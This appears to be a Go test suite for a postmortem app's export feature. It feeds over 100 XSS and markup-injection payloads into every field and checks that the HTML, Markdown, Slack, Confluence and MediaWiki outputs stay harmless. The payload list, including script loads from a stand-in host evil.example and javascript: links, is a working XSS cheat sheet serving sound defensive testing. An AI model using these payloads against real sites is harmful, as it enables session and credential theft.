package export_test

import (
	"bytes"
	"encoding/xml"
	"errors"
	"io"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/yuin/goldmark"
	"github.com/yuin/goldmark/extension"
	"github.com/yuin/goldmark/renderer/html"

	"github.com/afterword-app/afterword/backend/export"
	"github.com/afterword-app/afterword/backend/retro"
)

// payloads are attempts to make a document do something, by class.
func payloads() []string {
	return []string{
		// Elements that run or fetch.
		`<script>alert(1)</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `<scr<script>ipt>alert(1)</scr</script>ipt>`,
		`<script/xss>alert(1)//`, `<iframe src="javascript:alert(1)"></iframe>`, `<iframe srcdoc="<script>alert(1)</script>">`,
		`<object data="javascript:alert(1)"></object>`, `<embed src="//evil.example/x.swf">`, `<applet code=X>`,
		`<frameset onload=alert(1)><frame src=//evil.example>`, `<portal src="https://evil.example">`,
		`<video><source onerror=alert(1)></video>`, `<audio src=x onerror=alert(1)>`, `<video poster=//evil.example/p.png>`,
		`<link rel=stylesheet href=//evil.example/x.css>`, `<link rel=dns-prefetch href=//evil.example>`,
		`<base href="//evil.example/">`, `<meta http-equiv=refresh content="0;url=https://evil.example">`,
		`<meta http-equiv="Content-Security-Policy" content="default-src *">`, `<track src=//evil.example>`,
		// Attributes.
		`<img src=x onerror=alert(1)>`, `<img/src="x"/onerror=alert(1)>`, `<img src="x` + "\n" + `onerror=alert(1)">`,
		`<body onload=alert(1)>`, `<details open ontoggle=alert(1)>`, `<p onclick=alert(1)>x</p>`, `<a href=# onfocus=alert(1) autofocus>x</a>`,
		`<div style="position:fixed;inset:0;background:url(//evil.example)">x</div>`, `<p style="width:expression(alert(1))">x</p>`,
		`<table background="//evil.example/x.png"><td background=//evil.example>`, `<img srcset="//evil.example/1.png 1x" src="">`,
		`<img lowsrc=//evil.example dynsrc=//evil.example>`, `<span id=getElementById name=body>clobber</span>`, `<a name=doc-x target=_blank ping=//evil.example>x</a>`,
		`<p class="doc-x evil" id="app">x</p>`, `<q cite="javascript:alert(1)">x</q>`, `<th scope="col" onmouseover=alert(1)>`,
		// Schemes.
		`[x](javascript:alert(1))`, `[x](JaVaScRiPt:alert(1))`, `[x](java&#x09;script:alert(1))`, `[x](javascript&colon;alert(1))`,
		`[x](&#106;avascript:alert(1))`, `[x](\javascript:alert(1))`, `[x](<java script:alert(1)>)`, `[x](vbscript:msgbox(1))`,
		`[x](data:text/html,<script>alert(1)</script>)`, `[x](data:text/html;base64,PHNjcmlwdD4=)`, `[x](view-source:https://evil.example)`,
		`[x](jar:https://evil.example!/x)`, `[x](mhtml:https://evil.example)`, `[x](feed:javascript:alert(1))`, `[x](livescript:x)`,
		`[x](blob:https://evil.example/1)`, `[x](file:///etc/passwd)`, `[x](smb://evil.example/x)`, `[x](ms-msdt:/id)`, `[x](\\\\evil.example\\share)`,
		`[x](//evil.example/)`, `<javascript:alert(1)>`, `<data:text/html,x>`, `[x]: javascript:alert(1)` + "\n\n[x]", `[x](https:evil.example)`, `[x](https:///evil.example)`,
		`[x](mailto:)`, `[x](https://evil.example/"onmouseover="alert(1))`, `[x](https://evil.example/'onmouseover='alert(1))`, `[x](https://evil.example "t\" onmouseover=alert(1) x=\"")`,
		`[x](tel:1)`, `[x](about:blank)`, `[x](wails://wails/)`, `[x](#top)`, `[x](/asset/aa)`,
		// Pictures.
		`![x](https://evil.example/p.png)`, `![x](//evil.example/p.png)`, `![x](javascript:alert(1))`, `![x](data:image/svg+xml,<svg onload=alert(1)>)`,
		`![x](/asset/../../x)`, `![" onerror="alert(1)](evidence/00000000graph)`, `![<script>](evidence/0000000000log#L1)`, `![x](evidence/"><script>alert(1)</script>)`,
		`![x](evidence/../../etc/passwd)`, `![x](cid:1)`, `[![x](javascript:alert(1))](javascript:alert(2))`,
		// Where parsers differ.
		`<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`, `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
		`<svg><style><img src=x onerror=alert(1)></style></svg>`, `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
		`<math href="javascript:alert(1)">x</math>`, `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
		`<template><script>alert(1)</script></template>`, `<style>@import '//evil.example';</style>`, `<style><img src="</style><img src=x onerror=alert(1)//">`,
		`<title><img src="</title><img src=x onerror=alert(1)>">`, `<textarea><img src="</textarea><img src=x onerror=alert(1)>">`,
		`<xmp><img src=x onerror=alert(1)></xmp>`, `<plaintext><script>alert(1)`, `<noembed><img src=x onerror=alert(1)></noembed>`,
		`<select><style><img src=x onerror=alert(1)></style></select>`, `<option><style></option></select><img src=x onerror=alert(1)></style>`,
		`<!--><img src=x onerror=alert(1)>-->`, `<!-- --!><img src=x onerror=alert(1)> -->`, `<![CDATA[<img src=x onerror=alert(1)>]]>`,
		`<?xml-stylesheet href="javascript:alert(1)"?>`, `<!DOCTYPE x [<!ENTITY y "z">]>`, `<\x00script>alert(1)</script>`, "<a\x0bhref=javascript:alert(1)>x</a>",
		`<<script>alert(1);//<</script>`, `</p></div></main><script>alert(1)</script>`, `"><script>alert(1)</script>`, `'"--></style></script><script>alert(1)</script>`,
		"```\"><script>alert(1)</script>\nx\n```", "``` onload=alert(1)\n</code></pre><script>alert(1)</script>\n```", "`</code><script>alert(1)</script>`",
		"| a |\n|---|\n| <script>alert(1)</script> |\n", "| <img src=x onerror=alert(1)> |\n|---|\n", "> [!NOTE]<script>alert(1)</script>\n> [!\"onload=]\n",
		"# h {onclick=alert(1) style=\"position:fixed\"}\n", "# <img src=x onerror=alert(1)> {#body}\n", "<ſcript>alert(1)</ſcript>", "<İframe src=//evil.example>",
		`&lt;script&gt;alert(1)&lt;/script&gt;`, `&amp;lt;script&amp;gt;`, `<form action=//evil.example><input name=x><button formaction=javascript:alert(1)>x</button></form>`,
		`<isindex type=image src=1 onerror=alert(1)>`, `<marquee onstart=alert(1)>x</marquee>`, `<dialog open>x</dialog>`, `<custom-element onload=x>`,
		// Other targets' own syntax.
		`<ac:structured-macro ac:name="html"><ac:plain-text-body><![CDATA[<script>]]></ac:plain-text-body></ac:structured-macro>`,
		`]]></ac:plain-text-body></ac:structured-macro><ac:structured-macro ac:name="html">`, "`]]><script>`", "```\n]]><script>alert(1)</script>\n```",
		`{html}<script>alert(1)</script>{html}`, `<!here|here> <!subteam^S1> <@U1>`, `<https://evil.example|https://bank.example>`, "&#60;https://evil.example|bank&#62;",
		"{{Template:X}} {{{1}}} {{subst:x}} {{!}} {{#tag:script|x}}", "[[Category:X]] [[File:x.png]] [[x|y]] [[#event-1|x]]", "~~~~ \\_\\_TOC\\_\\_ &#95;&#95;NOTOC&#95;&#95; -{x}-",
		"'' ''' ''''' '", "|}\n\n{| class=x\n\n|- onclick=x\n\n! a !! b || c", "`</nowiki>{{x}}` `<nowiki/>`", "```\n</pre>{{x}}\n```", "```go\n</SyntaxHighlight>{{x}}\n```",
		"#REDIRECT [[x]]", "https://evil.example/{{x}}'''[[x]]~~~~ //evil.example ISBN 978-3-16-148410-0 RFC 2616 tel:112 MAILTO:x@y.example", "left", "page=2|link=https://evil.example",
	}
}

// everywhere puts a payload wherever a person or a log can put text.
func everywhere(payload string) export.Input {
	in := story()
	in.Paintings = export.NewPaintings()
	c := &in.Content
	c.Title = payload
	c.Sections[0].Heading, c.Sections[0].Body = payload, payload+"\n\n![](evidence/chart)\n\n"+payload
	c.Evidence = append(c.Evidence, retro.Evidence{ID: "chart", Kind: retro.EvidenceChart, Chart: &retro.Chart{}})
	c.Sections = append(c.Sections, retro.Section{Heading: "x", Block: retro.LiveBlock(payload)})
	c.Events[0].Title, c.Events[0].Body, c.Events[0].Kind = payload, payload, retro.EventKind(payload)
	c.Events[0].Actor = retro.Actor{Role: payload, Name: payload}
	c.Factors[0].Title, c.Factors[0].Body, c.Factors[0].Confidence = payload, payload, retro.Confidence(payload)
	for i := range c.ActionItems {
		c.ActionItems[i].Title, c.ActionItems[i].Body, c.ActionItems[i].Owner = payload, payload, payload
		c.ActionItems[i].Ticket, c.ActionItems[i].Reason = payload, payload
	}
	c.Participants[0].Name, c.Participants[0].Why, c.Participants[0].Department = payload, payload, payload
	c.Participants[0].Roles = []retro.Role{retro.Role(payload), retro.RoleLead}
	c.Tables = retro.Rows{}
	for _, table := range retro.Tables() {
		row := retro.Row{ID: "row"}
		for _, column := range table.Columns {
			row = row.With(column.Name, payload)
		}
		c.Tables[table.Noun] = []retro.Row{row}
		c.Sections = append(c.Sections, retro.Section{Heading: table.Title, Block: table.Block})
	}
	c.Zones = append(c.Zones, payload)
	for i := range c.Evidence {
		c.Evidence[i].Label, c.Evidence[i].Caption, c.Evidence[i].FileName = payload, payload, payload
	}
	in.Source = fakeSource{width: 32, lines: map[int]export.Line{
		48120: {Text: payload, Actor: payload, At: instantPointer("10:02:03"), Level: retro.LevelError},
	}}
	return in
}

// TestHostileText puts every payload everywhere and looks at all that leaves.
func TestHostileText(t *testing.T) {
	t.Parallel()
	if count := len(payloads()); count < 100 {
		t.Fatalf("%d payloads, want at least 100", count)
	}
	for _, payload := range payloads() {
		t.Run("", func(t *testing.T) {
			t.Parallel()
			isHarmless(t, payload)
		})
	}
}

// isHarmless renders a text as everything that people write, for everybody who shows it.
func isHarmless(t *testing.T, payload string) {
	t.Helper()
	in := everywhere(payload)
	report := func(where string, found []string) {
		t.Helper()
		if len(found) > 0 {
			t.Errorf("%s of %q has %q", where, payload, found)
		}
	}
	preview, err := export.Preview(t.Context(), in, "![](evidence/chart)\n\n"+payload, links())
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(preview.String(), "<svg ") {
		t.Fatal("the chart is not in the preview")
	}
	report("preview", dangers(preview.String(), false, windowPicture))
	for _, block := range retro.LiveBlocks() {
		shown, err := export.Block(t.Context(), in, block, links())
		if err != nil {
			t.Fatal(err)
		}
		report("block "+string(block), dangers(shown.String(), false, windowPicture))
	}
	for _, target := range export.Targets() {
		result := render(t, in, target.Name)
		shown := export.PreviewResult(result, links())
		report("preview of "+target.Name, dangers(shown.String(), false, windowPicture))
		report("clipboard of "+target.Name, dangers(result.Clipboard.HTML.String(), true, pagePicture))
		for _, file := range result.Files {
			if strings.HasPrefix(file.MediaType, "image/") {
				continue
			}
			report(target.Name, fileDangers(t, target.Name, file.Name, string(file.Data)))
		}
		for _, file := range result.Files {
			if !fileName.MatchString(file.Name) {
				t.Errorf("file name %q of %q", file.Name, payload)
			}
		}
	}
}

var (
	fileName   = regexp.MustCompile(`^(?:[a-z]+/)?[\p{L}\p{M}\p{N}-]+(?:\.[0-9a-z]+)+$`)
	slackQuote = regexp.MustCompile(`(?m)^>`)
	slackCall  = regexp.MustCompile(`(?i)(?:^|[^0-9A-Za-z_.])@(?:here|channel|everyone)\b`)
	slackTag   = regexp.MustCompile(`<(?:https?://|mailto:)[^\s<>|]+(?:\|[^<>]*)?>`)
)

func fileDangers(t *testing.T, target, name, data string) []string {
	t.Helper()
	switch target {
	case "html":
		head, rest, _ := strings.Cut(data, "<main>\n")
		main, foot, _ := strings.Cut(rest, "</main>\n<footer>")
		var found []string
		if strings.Contains(strings.ToLower(head+foot), "<script") || strings.Count(head, "<meta") != 5 || strings.Count(head, "<style>") != 1 || strings.Count(head, "<title>") != 1 {
			found = append(found, "a changed head or foot")
		}
		return append(found, dangers(main, true, pagePicture)...)
	case "markdown":
		// What a reader that lets HTML through would make of it.
		var out bytes.Buffer
		_, body, _ := strings.Cut(data, "\n---\n")
		reader := goldmark.New(goldmark.WithExtensions(extension.GFM, extension.Footnote), goldmark.WithRendererOptions(html.WithUnsafe()))
		if err := reader.Convert([]byte(body), &out); err != nil {
			t.Fatal(err)
		}
		found := dangers(out.String(), true, regexp.MustCompile(`^assets/[0-9a-zA-F.%-]+$`))
		return slices.DeleteFunc(found, func(s string) bool {
			return s == `comment or doctype " "` || strings.HasPrefix(s, "class language-") || s == "element input" ||
				strings.HasPrefix(s, "attribute id") || strings.HasPrefix(s, "attribute checked") || strings.HasPrefix(s, "attribute disabled") ||
				strings.HasPrefix(s, "attribute type") || s == "element del" || strings.HasPrefix(s, "href #fn") || strings.HasPrefix(s, "class footnote") || strings.HasPrefix(s, "attribute role") || s == "element ins" || strings.HasPrefix(s, "attribute style")
		})
	case "slack":
		if calls := slackCall.FindString(data); calls != "" {
			return []string{"a live " + calls}
		}
		if strings.HasSuffix(name, ".txt") {
			return nil // the composer takes every character as it is
		}
		if rest := slackTag.ReplaceAllString(slackQuote.ReplaceAllString(data, ""), ""); strings.ContainsAny(rest, "<>") {
			return []string{"a live < or >: " + rest}
		}
	case "confluence":
		return storageDangers(data)
	case "mediawiki":
		return wikiDangers(data)
	}
	return nil
}

// storageDangers looks for anything but the macros and tags that the app knows.
func storageDangers(page string) []string {
	var found []string
	elements := append(slices.Clone(harmlessElements), strings.Fields("page structured-macro parameter plain-text-body rich-text-body task-list task task-id task-status task-body image attachment")...)
	attributes := strings.Fields("name alt width filename href start style ac ri")
	decoder := xml.NewDecoder(strings.NewReader(`<page xmlns:ac="ac" xmlns:ri="ri">` + page + `</page>`))
	for {
		token, err := decoder.Token()
		if errors.Is(err, io.EOF) {
			return found
		}
		if err != nil {
			return append(found, err.Error())
		}
		element, ok := token.(xml.StartElement)
		if !ok {
			if _, isText := token.(xml.CharData); !isText {
				if _, isEnd := token.(xml.EndElement); !isEnd {
					found = append(found, "something that is neither tag nor text")
				}
			}
			continue
		}
		if !slices.Contains(elements, element.Name.Local) {
			found = append(found, "element "+element.Name.Local)
		}
		for _, a := range element.Attr {
			switch {
			case !slices.Contains(attributes, a.Name.Local):
				found = append(found, "attribute "+a.Name.Local)
			case a.Name.Local == "href" && !harmlessURL(a.Value):
				found = append(found, "href "+a.Value)
			case a.Name.Local == "style" && !slices.Contains([]string{"text-decoration: line-through;", "text-align: center;", "text-align: right;", "margin-left: 30.0px;"}, a.Value):
				found = append(found, "style "+a.Value)
			case element.Name.Local == "structured-macro" && !slices.Contains(strings.Fields("code status info tip note warning expand"), a.Value):
				found = append(found, "macro "+a.Value)
			}
		}
	}
}

// TestEachLayerAlone switches the other layer off: what the writer makes is
// harmless without the sanitiser, and the sanitiser makes harmless what a
// Markdown reader without any caution writes.
func TestEachLayerAlone(t *testing.T) {
	t.Parallel()
	careless := goldmark.New(goldmark.WithExtensions(extension.GFM), goldmark.WithRendererOptions(html.WithUnsafe()))
	live := 0
	for _, payload := range payloads() {
		var out bytes.Buffer
		if err := careless.Convert([]byte(payload), &out); err != nil {
			t.Fatal(err)
		}
		if len(dangers(out.String(), true, windowPicture)) > 0 {
			live++
		}
		for _, follow := range []bool{false, true} {
			written, err := export.UnsanitisedForTest(t.Context(), everywhere(payload), payload, links(), follow)
			if err != nil {
				t.Fatal(err)
			}
			if found := dangers(written, follow, windowPicture); len(found) > 0 {
				t.Errorf("the writer alone makes of %q: %q", payload, found)
			}
			for _, markup := range []string{payload, out.String()} {
				if found := dangers(export.SanitiseForTest(markup, follow), follow, windowPicture); len(found) > 0 {
					t.Errorf("the sanitiser alone makes of %q: %q", markup, found)
				}
			}
		}
	}
	if live < 70 {
		t.Errorf("only %d of %d payloads are dangerous without any layer", live, len(payloads()))
	}
}

// TestOutputIsAFixpoint reads the output as a browser does, writes it again and
// sanitises that: nothing may have changed.
func TestOutputIsAFixpoint(t *testing.T) {
	t.Parallel()
	texts := payloads()
	for _, markdown := range markdownCases() {
		texts = append(texts, markdown)
	}
	for _, markdown := range texts {
		preview, err := export.Preview(t.Context(), story(), markdown, links())
		if err != nil {
			t.Fatal(err)
		}
		checkFixpoint(t, preview.String())
	}
}

// TestSanitisedByTags expects that to know from its tags that markup is harmless changes
// nothing but the time that it takes, and that it is known of what the app writes. Halves
// and repetitions of markup are markup that is cut where it should not be.
func TestSanitisedByTags(t *testing.T) {
	t.Parallel()
	texts := payloads()
	for _, markdown := range markdownCases() {
		texts = append(texts, markdown)
	}
	for _, text := range texts {
		for _, live := range []bool{false, true} {
			written, err := export.UnsanitisedForTest(t.Context(), story(), text, links(), live)
			if err != nil {
				t.Fatal(err)
			}
			clean := export.SanitiseForTest(written, live)
			if _, _, byTags := export.SanitiseOnceForTest(clean, live); !byTags {
				t.Errorf("not known by its tags:\n%s", clean)
			}
			half := clean[:len(clean)/2]
			for _, markup := range []string{text, written, clean, half, half + text, text + half, text + clean, clean + text, clean + clean} {
				if got, want, _ := export.SanitiseOnceForTest(markup, live); got != want {
					t.Errorf("%q becomes\n%q and by the policy\n%q", markup, got, want)
				}
			}
		}
	}
}

func FuzzPreview(f *testing.F) {
	for _, payload := range payloads() {
		f.Add(payload)
	}
	for _, markdown := range markdownCases() {
		f.Add(markdown)
	}
	f.Fuzz(func(t *testing.T, markdown string) {
		preview, err := export.Preview(t.Context(), story(), markdown, links())
		if err != nil {
			t.Fatal(err)
		}
		if found := dangers(preview.String(), false, windowPicture); len(found) > 0 {
			t.Errorf("%q", found)
		}
		checkFixpoint(t, preview.String())
	})
}

func FuzzRender(f *testing.F) {
	for _, payload := range payloads() {
		f.Add(payload)
	}
	for _, markdown := range markdownCases() {
		f.Add(markdown)
	}
	f.Fuzz(func(t *testing.T, markdown string) {
		in := only(markdown)
		for _, target := range []string{"markdown", "slack", "confluence", "mediawiki"} {
			for _, file := range render(t, in, target).Files {
				if strings.HasPrefix(file.MediaType, "text/") || strings.HasPrefix(file.MediaType, "application/") {
					if found := fileDangers(t, target, file.Name, string(file.Data)); len(found) > 0 {
						t.Errorf("%s: %q", target, found)
					}
				}
			}
		}
	})
}

func FuzzSanitise(f *testing.F) {
	for _, payload := range payloads() {
		f.Add(payload)
	}
	f.Fuzz(func(t *testing.T, markup string) {
		for _, live := range []bool{false, true} {
			clean := export.SanitiseForTest(markup, live)
			for _, text := range []string{markup, clean, clean + markup, markup + clean, clean + clean} {
				if got, want, _ := export.SanitiseOnceForTest(text, live); got != want {
					t.Errorf("%q becomes\n%q and by the policy\n%q", text, got, want)
				}
			}
			if again := export.SanitiseForTest(clean, live); again != clean {
				t.Errorf("not a fixpoint:\n%q\n%q", clean, again)
			}
			if found := dangers(clean, live, windowPicture); len(found) > 0 {
				t.Errorf("%q has %q", clean, found)
			}
		}
	})
}
